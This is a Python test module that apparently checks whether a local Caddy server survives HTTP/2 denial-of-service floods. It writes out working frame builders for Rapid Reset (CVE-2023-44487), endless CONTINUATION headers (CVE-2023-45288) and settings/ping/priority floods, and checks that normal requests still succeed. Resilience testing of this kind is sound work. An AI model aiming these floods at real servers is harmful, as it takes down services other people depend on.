"""HTTP/2, frame by frame, over TLS to Caddy: resets, and frames without an end.

Paced: on a machine of two cores, where a flood and its victim share them, as many as can be sent would
measure the cores. Caddy before 2.7.5 has no bound on what is taken back (CVE-2023-44487): without
this pace it answers others seconds later."""

import itertools
import struct
import time

from wire import TLS, Wire, expect

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = (0, 1, 2, 3, 4, 6, 7, 8, 9)
END_STREAM, END_HEADERS = 1, 4
# Pieces that are sent together, and how often that is done.
TOGETHER, EVERY_SECONDS = 64, 0.02


def frame(kind, flags=0, stream=0, payload=b""):
    return struct.pack("!I", len(payload))[1:] + struct.pack("!BBI", kind, flags, stream) + payload


def head(path=b"/v1/health"):
    """Returns a header block (RFC 7541): GET and https by the static table, the rest as literals."""
    return b"\x82\x87" + b"\x04" + bytes([len(path)]) + path + b"\x01\x09localhost"


def _flood(make, seconds):
    """Sends what `make(number)` returns again and again, on a new connection when one is closed.

    Returns how many pieces were sent, and on how many connections."""
    end, pieces, connections, numbers = time.monotonic() + seconds, 0, 0, None
    wire = None
    while time.monotonic() < end:
        if wire is None or not wire.open:
            wire = Wire(TLS, timeout=2, protocol="h2")
            if not wire.send(PREFACE + frame(SETTINGS)):
                time.sleep(0.01)
                continue
            wire.socket.settimeout(2)
            numbers, connections = itertools.count(), connections + 1
        pieces += TOGETHER if wire.send(b"".join(make(next(numbers)) for _ in range(TOGETHER))) else 0
        _drain(wire)
        time.sleep(EVERY_SECONDS)
    if wire is not None:
        wire.close()
    return pieces, connections


def _drain(wire):
    """Takes what the other side says, without waiting."""
    if wire.open:
        wire.socket.setblocking(False)
        try:
            wire.open = bool(wire.socket.recv(1 << 20))
        except (BlockingIOError, OSError) as error:
            wire.open = "did not complete" in str(error) or isinstance(error, BlockingIOError)
        wire.socket.settimeout(2)


def good_answer():
    """Asks by HTTP/2 as it should be; this must work before and after."""
    with Wire(TLS, timeout=8, protocol="h2") as wire:
        expect(wire.open and wire.socket.selected_alpn_protocol() == "h2", "Caddy does not speak HTTP/2")
        wire.send(PREFACE + frame(SETTINGS) + frame(HEADERS, END_STREAM | END_HEADERS, 1, head()))
        while wire.fill(lambda b: len(b) >= 9):
            size, kind = int.from_bytes(wire.buffer[:3]), wire.buffer[3]
            wire.fill(lambda b, n=size: len(b) >= 9 + n)
            payload = wire.take(9 + size)[9:]
            if kind == HEADERS:
                # 0x88 is :status 200 of the static table.
                return payload[:1] == b"\x88"
    return False


def _attack(make, seconds=2.5):
    expect(good_answer(), "a good request by HTTP/2 is not answered with 200")
    pieces, connections = _flood(make, seconds)
    expect(good_answer(), "afterwards a good request by HTTP/2 is not answered with 200")
    return f"{pieces} on {connections} connections"


def rapid_reset(_):
    """Requests that are taken back at once (CVE-2023-44487)."""
    def make(number):
        stream = 2 * number + 1
        return frame(HEADERS, END_STREAM | END_HEADERS, stream, head()) + frame(RST_STREAM, 0, stream, b"\x00\x00\x00\x08")
    return _attack(make)


def continuation(_):
    """A head that never ends (CVE-2023-45288)."""
    filler = b"".join(b"\x00\x04x-%02d\x7f\x01" % (i % 100) + b"a" * 128 for i in range(90))

    def make(number):
        return frame(HEADERS, END_STREAM, 1, head()) if number == 0 else frame(CONTINUATION, 0, 1, filler)
    return _attack(make)


def control(_):
    """Settings, pings, priorities and window updates without an end (CVE-2019-9512, -9515)."""
    def make(number):
        return (frame(SETTINGS, 0, 0, struct.pack("!HI", 4, number % 65535)) + frame(PING, 0, 0, bytes(8)) +
                frame(PRIORITY, 0, 2 * number + 1, b"\x00\x00\x00\x00\x10") + frame(WINDOW_UPDATE, 0, 0, struct.pack("!I", 1)))
    return _attack(make)
